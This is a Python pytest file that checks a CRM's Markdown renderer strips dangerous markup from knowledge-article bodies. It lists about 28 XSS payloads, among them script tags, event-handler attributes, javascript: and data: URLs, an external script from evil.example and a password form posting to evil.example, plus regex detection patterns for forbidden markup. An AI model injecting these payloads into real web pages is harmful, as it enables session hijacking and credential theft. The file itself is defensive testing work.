"""Knowledge article bodies are Markdown rendered safely (SPEC §6, §10): hostile input never
produces a script, an event attribute, a style or a javascript:/data: URL."""

import re

import pytest

from crm.markdown import render_markdown

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![pixel](javascript:alert(1))",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="position:fixed;inset:0">overlay</div>',
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--<img src=x onerror=alert(1)>-->",
    "<iframe src=https://evil.example></iframe>",
    '<object data="javascript:alert(1)"></object>',
    '<form action="https://evil.example"><input name=password></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "<https://ok.example/x><javascript:alert(1)>",
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
    "```html\n<script>alert(1)</script>\n```",
    '"><img src=x onerror=alert(1)>',
]

# What must never reach the browser as markup.
FORBIDDEN = [
    re.compile(r"<script", re.I),
    re.compile(r"<(svg|iframe|object|embed|form|input|style|math|div)\b", re.I),
    re.compile(r"\son[a-z]+\s*=", re.I),
    re.compile(r"\sstyle\s*=", re.I),
    re.compile(r"(href|src)\s*=\s*\"?\s*(javascript|vbscript|data):", re.I),
    re.compile(r"<!--"),
]


def tags_and_attributes(html: str) -> str:
    """Only the markup: text between tags is escaped and may mention anything."""
    return " ".join(re.findall(r"<[^>]*>", html))


def test_there_are_at_least_fifteen_payloads():
    assert len(XSS_PAYLOADS) >= 15


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_hostile_markdown_is_neutralised(payload):
    html = str(render_markdown(f"Intro paragraph.\n\n{payload}\n\nOutro."))
    markup = tags_and_attributes(html)
    for pattern in FORBIDDEN:
        assert not pattern.search(markup), f"{pattern.pattern!r} survived in {html!r}"
    assert "Intro paragraph." in html and "Outro." in html


def test_typed_html_is_shown_as_text():
    html = str(render_markdown("Use <b>bold</b> tags"))
    assert "&lt;b&gt;bold&lt;/b&gt;" in html and "<b>" not in html


def test_ordinary_markdown_renders():
    html = str(
        render_markdown(
            "## Change the A record\n\n1. Sign in\n2. Open **DNS**\n\n"
            "```bash\ndig +short example.com\n```\n\n"
            "| Record | Value |\n|---|---|\n| A | 203.0.113.10 |\n\n"
            "[Docs](https://help.example/dns) · [mail](mailto:help@agency.example) · "
            "[relative](/portal/kb/ssl/)"
        )
    )
    assert "<h2>Change the A record</h2>" in html
    assert "<ol>" in html and "<strong>DNS</strong>" in html
    assert '<code class="language-bash">dig +short example.com' in html
    assert "<table>" in html and "<td>203.0.113.10</td>" in html
    assert (
        'href="https://help.example/dns"' in html and 'rel="noopener noreferrer nofollow"' in html
    )
    assert 'href="mailto:help@agency.example"' in html and 'href="/portal/kb/ssl/"' in html


def test_empty_body_renders_nothing():
    assert str(render_markdown("")) == "" and str(render_markdown(None)) == ""
